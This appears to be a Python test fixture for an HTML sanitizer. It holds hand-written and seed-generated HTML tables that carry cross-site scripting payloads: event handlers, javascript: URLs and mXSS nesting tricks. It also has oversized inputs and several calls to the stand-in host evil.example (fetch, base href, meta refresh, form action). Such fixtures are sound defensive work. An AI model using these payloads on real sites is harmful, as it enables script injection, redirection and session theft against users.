"""HTML tables that try to get out of a page: some by hand, fifty drawn from a seed."""

from __future__ import annotations

import random

BY_HAND = (
    "<table><tr><td></td></tr></table><script>window.hacked=1</script>",
    "<table><tr><td><script>window.hacked=1</script></td></tr></table>",
    '<table><tr><td><img src=x onerror="window.hacked=1"></td></tr></table>',
    '<table onclick="window.hacked=1" style="position:fixed;inset:0"><tr><td>click</td></tr></table>',
    '<table><tr><td><a href="javascript:window.hacked=1">a</a></td></tr></table>',
    "<table><tr><td><svg onload=window.hacked=1></svg></td></tr></table>",
    "<table><tr><td><iframe srcdoc='<script>parent.hacked=1</script>'></iframe></td></tr></table>",
    "<table background='http://evil.example/x'><tr><td>b</td></tr></table>",
    "<table><caption><style>*{display:none}</style></caption><tr><td>c</td></tr></table>",
    "<table><tr><td id=list class=item>d</td></tr></table><base href=http://evil.example/>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hacked=1></style></mglyph></table></mtext></math>",
    "<table><tr><td><noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript></td></tr></table>",
    "<table><tr><td colspan=999999999 rowspan=-4>e</td></tr></table>",
    "<table><tr><td><table><tr><td><img src=x onerror=window.hacked=1></td></tr></table></td></tr></table>",
    "<table>" + "<tr><td>" * 600,
    "<table>" + "<tr>" + "<td>x</td>" * 6000 + "</tr></table>",
    "<table><tr><td>&lt;img src=x onerror=window.hacked=1&gt;</td></tr></table>",
    "<table><constructor></constructor><tr><td>&constructor;</td></tr></table>",
    "<table><tr><td>&constructor; &#0; &#x110000; &#xd800;</td></tr></table>",
    "<table " * 20_000,
    "<table><tr><td" + " a" * 20_000 + "</table>",
    "<table><template><img src=x onerror=window.hacked=1></template><tr><td>f</td></tr></table>",
)

_ELEMENTS = (
    "<img src=x {on}>",
    "<svg {on}><circle {on}/></svg>",
    "<iframe src='javascript:{js}'></iframe>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<video><source {on}></video>",
    "<input autofocus {on}>",
    "<form action='http://evil.example/' {on}><button>b</button></form>",
    "<details open {on}>d</details>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<b {on}>bold</b>",
    "<span {on} style='background:url(http://evil.example/x)'>s</span>",
    "<a href='javascript:{js}' {on}>a</a>",
    "<marquee {on}>m</marquee>",
    "<script>{js}</script>",
)
_EVENTS = ("onerror", "onload", "onfocus", "onclick", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter")
_FRAMES = (
    "<table {on}><tr><td>{inner}</td></tr></table>",
    "<TABLE><TR><TH {on} colspan=3>{inner}</TH></TR></TABLE>",
    "<table><caption {on}>{inner}</caption><tr><td>1</td></tr></table>",
    "<table><tbody><tr {on}><td rowspan=2>x</td>{inner}</tr></tbody></table>",
    "<table><colgroup><col {on}></colgroup><tr><td>{inner}</td></tr></table>",
    "<table\n><tr><td>{inner}</table >",
    "<table><!--><tr>{inner}--><tr><td>z</td></tr></table>",
)


def generated(many: int = 50, seed: int = 7) -> list[str]:
    """Tables with elements and attributes that would run or load something, each in another place or spelling."""
    dice = random.Random(seed)
    made = []
    for _ in range(many):
        js = dice.choice(("window.hacked=1", "alert(1)", "fetch('http://evil.example/')"))
        on = f"{dice.choice(_EVENTS)}={dice.choice((js, repr(js)))}"
        inner = "".join(dice.choices(_ELEMENTS, k=dice.randint(1, 3))).format(on=on, js=js)
        text = dice.choice(_FRAMES).format(on=on, inner=inner)
        made.append("".join(dice.choice((c.upper(), c)) if dice.random() < 0.2 and c.isalpha() else c for c in text))
    return made
